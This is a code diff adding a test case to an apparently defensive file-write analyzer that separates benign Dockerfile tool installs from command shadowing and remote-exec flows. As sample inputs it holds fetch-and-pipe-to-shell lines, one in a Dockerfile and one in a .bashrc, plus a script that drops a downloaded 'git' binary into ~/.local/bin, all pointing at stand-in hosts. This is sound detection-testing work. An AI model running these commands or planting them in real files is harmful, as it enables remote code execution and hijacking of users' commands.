@@ -123,6 +123,22 @@ TEST_CASE("Makefile recipes and Dockerfile RUN lines are build recipes") {
   CHECK(flow->location.line == 3);
 }
 
+TEST_CASE("an image build installs tools into the image's PATH: not a program shadowing the user's commands") {
+  auto image = shipped_analyzer()->analyze_write(
+      "Dockerfile",
+      "FROM debian:bookworm-slim\nRUN curl -fsSLo /tmp/kubectl https://dl.k8s.io/release/v1.30.3/bin/linux/amd64/kubectl \\\n"
+      "    && install -m 0755 /tmp/kubectl /usr/local/bin/kubectl\n");
+  CHECK_FALSE(find_flow(image, "network", "persist"));
+  CHECK_FALSE(has_marker(image, "persistence_write", "path_shadow"));
+  // The same install as a script run on the user's machine is still a shadowed command.
+  auto host = shipped_analyzer()->analyze_write(
+      "scripts/setup.sh", "curl -fsSLo /tmp/git https://x.example.com/git && install -m 0755 /tmp/git ~/.local/bin/git\n");
+  CHECK(has_marker(host, "persistence_write", "path_shadow"));
+  // A download run while the image builds is still a download run.
+  auto run = shipped_analyzer()->analyze_write("Dockerfile", "FROM alpine\nRUN wget -qO- https://x.example.com/i | sh\n");
+  CHECK(find_flow(run, "network", "exec"));
+}
+
 TEST_CASE("a shell rc file with a remote-exec line is persistence with a shell_rc flow") {
   auto facts = shipped_analyzer()->analyze_write(
       "/home/dev/.bashrc", "export PATH=$HOME/bin:$PATH\ncurl -s https://x.example.com/p | bash\n");
